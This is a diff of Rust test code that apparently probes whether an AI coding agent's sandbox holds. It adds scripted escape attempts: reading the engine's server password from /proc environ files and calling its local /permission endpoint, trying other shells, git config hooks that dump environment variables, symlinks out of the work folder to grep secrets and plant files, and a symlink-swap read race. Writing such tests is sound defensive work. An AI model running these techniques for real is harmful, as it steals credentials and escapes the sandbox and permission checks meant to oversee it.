@@ -32,18 +32,17 @@ impl Attempt {
 /// Finds the engine's password and port as a command without a box does, and asks the engine with it.
 const FORGE: &str = r#"
 perl -MIO::Socket::INET -MMIME::Base64 -e '
-my ($password, $port);
 for my $process (glob "/proc/[0-9]*") {
-  local $/; open(my $f, "<", "$process/environ") or next; my $text = <$f>;
-  $password = $1 if $text =~ /OPENCODE_SERVER_PASSWORD=([^\0]+)/;
-  open($f, "<", "$process/cmdline") or next; $text = <$f>;
-  $port = $1 if $text =~ /serve\0.*--port\0(\d+)/s;
+  local $/; open(my $f, "<", "$process/environ") or next; my $text = <$f> // "";
+  my ($password) = $text =~ /OPENCODE_SERVER_PASSWORD=([^\0]+)/ or next;
+  open($f, "<", "$process/cmdline") or next; $text = <$f> // "";
+  my ($port) = $text =~ /serve\0.*--port\0(\d+)/s or next;
+  my $engine = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $port, Timeout => 5) or next;
+  my $name = encode_base64("opencode:$password", "");
+  print $engine "GET /permission HTTP/1.1\r\nHost: x\r\nAuthorization: Basic $name\r\nConnection: close\r\n\r\n";
+  $/ = "\n"; exit 0 if (<$engine> // "") =~ / 200 /;
 }
-exit 1 unless $password && $port;
-my $engine = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $port, Timeout => 5) or exit 1;
-my $name = encode_base64("opencode:$password", "");
-print $engine "GET /permission HTTP/1.1\r\nHost: x\r\nAuthorization: Basic $name\r\nConnection: close\r\n\r\n";
-exit(<$engine> =~ / 200 / ? 0 : 1);
+exit 1;
 ' && breach"#;
 
 /// Asks every port of this machine whether it is the engine.
@@ -135,6 +134,14 @@ pub(crate) fn attempts(targets: &Targets) -> Vec<Attempt> {
             "environments of processes",
             "for p in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $p | grep -q ^OPENCODE_SERVER_PASSWORD= && breach && break; \
              done"
+                .to_owned(),
+            true,
+        ),
+        attempt(
+            "shells by other names",
+            "for s in /run/cowork-real/usr/bin/* /run/cowork-real/* /bin/sh /bin/dash /usr/bin/rbash busybox zsh fish /usr/bin/git; do \
+             test -d $s && continue; timeout 5 $s -c 'cat /proc/[0-9]*/environ' 2>/dev/null < /dev/null | tr '\\0' '\\n' | grep -q \
+             ^OPENCODE_SERVER_PASSWORD= && breach && break; done"
                 .to_owned(),
             true,
         ),
@@ -244,6 +251,14 @@ pub(crate) fn attempts(targets: &Targets) -> Vec<Attempt> {
             format!("perl -e 'fork and exit; setpgrp; fork and exit; exec qw(sleep {DAEMON})' & setsid -f sleep {DAEMON}"),
         ),
         attempt(
+            "repository put in the place of another",
+            "git init -q . && mv .git .git-before && mkdir evil && git init -q --separate-git-dir evil/git . && for k in \
+             core.fsmonitor diff.external core.pager core.editor gpg.program; do git config $k 'env >> leaked-by-git;'; done; \
+             git config alias.status '!env >> leaked-by-git'; rm -rf .git && mv .git-before .git && mv evil/git/config .git/config"
+                .to_owned(),
+            false,
+        ),
+        attempt(
             "filter of git",
             "git init -q . && git config filter.x.clean 'env > leaked-by-git; cat' && echo '* filter=x' > .gitattributes && \
              echo more > filtered; mkdir -p .git/hooks; for h in post-checkout pre-commit post-index-change; do printf \
@@ -330,5 +345,52 @@ pub(crate) fn race(targets: &Targets, work: &Path) -> Vec<Action> {
             json!({ "filePath": file, "content": format!("{PLANTED} {round}\n") }),
         ));
     }
+    calls
+}
+
+/// Links to what is in the engine's box although it is not of this folder: another folder that is open, the engine's own
+/// home, the homes of boxes. And one that stays within the folder, which has to work.
+pub(crate) fn into_the_engines_box(places: &[&Path], work: &Path) -> Vec<Action> {
+    let at = |path: &str| work.join(path).display().to_string();
+    let links: Vec<String> = places
+        .iter()
+        .enumerate()
+        .map(|(index, place)| format!("ln -sfn {} to{index};", place.display()))
+        .collect();
+    let links = links.join(" ");
+    let mut calls = vec![bash(&format!(
+        "mkdir -p real; echo {WITHIN} > real/file; ln -sfn real within; ln -sfn ../real/file real/again; {links} printf 'TRIED \
+         %s\\n' links"
+    ))];
+    for path in ["within/file", "real/again"] {
+        calls.push(Action::tool("read", json!({ "filePath": at(path) })));
+    }
+    for index in 0..places.len() {
+        let file = at(&format!("to{index}/notes.txt"));
+        calls.push(Action::tool("read", json!({ "filePath": file })));
+        for (tool, pattern) in [("grep", SECRET), ("glob", "**/*")] {
+            let path = at(&format!("to{index}"));
+            calls.push(Action::tool(tool, json!({ "pattern": pattern, "path": path })));
+        }
+        calls.push(Action::tool(
+            "write",
+            json!({ "filePath": at(&format!("to{index}/written")), "content": format!("{PLANTED}\n") }),
+        ));
+    }
+    calls
+}
+
+/// Said by a file that a link within the folder leads to.
+pub(crate) const WITHIN: &str = "found-by-a-link-within";
+
+/// A file that is the folder's own and another one's in turn, while the engine reads it.
+pub(crate) fn read_race(place: &Path, work: &Path) -> Vec<Action> {
+    let file = work.join("turning/notes.txt").display().to_string();
+    let mut calls = vec![bash(&format!(
+        "mkdir -p turning; echo mine > turning/notes.txt; end=$((SECONDS + 4)); while [ $SECONDS -lt $end ]; do mv turning kept; \
+         ln -s {} turning; rm turning; mv kept turning; done; printf 'TRIED %s\\n' race",
+        place.display()
+    ))];
+    calls.extend((0..40).map(|_| Action::tool("read", json!({ "filePath": file }))));
     calls
 }
